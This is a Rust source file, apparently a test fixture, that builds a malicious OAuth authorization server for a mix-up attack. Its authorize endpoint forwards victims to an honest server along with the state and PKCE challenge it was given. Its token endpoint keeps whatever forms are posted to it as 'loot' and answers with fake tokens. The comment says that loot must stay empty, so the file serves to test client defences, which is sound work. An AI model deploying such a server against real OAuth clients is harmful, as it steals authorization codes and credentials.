//! A malicious authorization server: it sends whoever comes to it on to an honest one, with the
//! `state` and PKCE challenge that it was just given, and keeps whatever its token endpoint is sent
//! (draft-ietf-oauth-security-topics-update §2.2). [`EvilAs::loot`] must stay empty.

use anyhow::Result;
use axum::extract::{RawForm, RawQuery, State};
use axum::response::{IntoResponse, Redirect, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use serde_json::json;
use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, PoisonError};
use url::Url;

/// Where victims are sent on to.
#[derive(Clone, Debug)]
pub struct Bounce {
    /// The honest server's authorization endpoint.
    pub authorize_url: String,
    /// A client of the one who is attacked.
    pub client_id: String,
    /// A redirect URI of that client.
    pub redirect_uri: String,
    /// Scopes that the honest server knows.
    pub scope: String,
}

#[derive(Clone)]
struct Trap {
    bounce: Bounce,
    loot: Arc<Mutex<Vec<String>>>,
}

/// The running server; it ends with the runtime that it was started on.
pub struct EvilAs {
    /// Its base.
    pub issuer: String,
    loot: Arc<Mutex<Vec<String>>>,
}

impl EvilAs {
    /// Starts it on a free port.
    ///
    /// # Errors
    /// When there is no port.
    pub async fn start(bounce: Bounce) -> Result<Self> {
        let loot = Arc::<Mutex<Vec<String>>>::default();
        let router = Router::new()
            .route("/authorize", get(authorize))
            .route("/token", post(token))
            .with_state(Trap { bounce, loot: loot.clone() });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let issuer = format!("http://{}", listener.local_addr()?);
        tokio::spawn(async move { axum::serve(listener, router).await });
        Ok(Self { issuer, loot })
    }

    /// What it has caught: the forms sent to its token endpoint.
    pub fn loot(&self) -> Vec<String> {
        self.loot.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}

async fn authorize(State(trap): State<Trap>, RawQuery(query): RawQuery) -> Response {
    let query = query.unwrap_or_default();
    let came: BTreeMap<_, _> = url::form_urlencoded::parse(query.as_bytes()).into_owned().collect();
    let Bounce { authorize_url, client_id, redirect_uri, scope } = trap.bounce;
    let mut asked = BTreeMap::from([
        ("response_type", "code".to_owned()),
        ("client_id", client_id),
        ("redirect_uri", redirect_uri),
        ("scope", scope),
        ("prompt", "consent".to_owned()),
    ]);
    for name in ["state", "code_challenge", "code_challenge_method"] {
        asked.extend(came.get(name).map(|value| (name, value.clone())));
    }
    match Url::parse_with_params(&authorize_url, asked) {
        Ok(url) => Redirect::to(url.as_str()).into_response(),
        Err(error) => error.to_string().into_response(),
    }
}

async fn token(State(trap): State<Trap>, RawForm(form): RawForm) -> Response {
    let caught = String::from_utf8_lossy(&form).into_owned();
    trap.loot.lock().unwrap_or_else(PoisonError::into_inner).push(caught);
    Json(json!({"access_token": "evil", "token_type": "Bearer", "refresh_token": "evil-too"})).into_response()
}
